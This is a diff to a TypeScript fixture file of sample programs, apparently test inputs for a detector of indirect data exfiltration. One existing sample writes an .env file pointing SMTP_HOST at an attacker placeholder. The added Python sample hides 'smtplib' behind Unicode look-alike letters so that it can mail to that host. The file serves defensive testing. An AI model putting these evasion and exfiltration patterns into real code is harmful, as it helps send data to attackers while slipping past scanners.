@@ -339,4 +339,9 @@ export const indirectPrograms: Readonly<Record<string, Files>> = {
   'go, an env file': {
     'app/m.go': `package m\n\nimport "os"\n\nfunc f() { os.WriteFile(".env", []byte("SMTP_HOST=${EVIL}\\n"), 0600) }\n`,
   },
+
+  // https://peps.python.org/pep-3131/
+  'python, names in other letters': {
+    'app/m.py': `import ｓｍｔｐｌｉｂ\n𝓼𝓶𝓽𝓹𝓵𝓲𝓫.ＳＭＴＰ("${EVIL}").sendmail("a", "b", "c")\n`,
+  },
 };
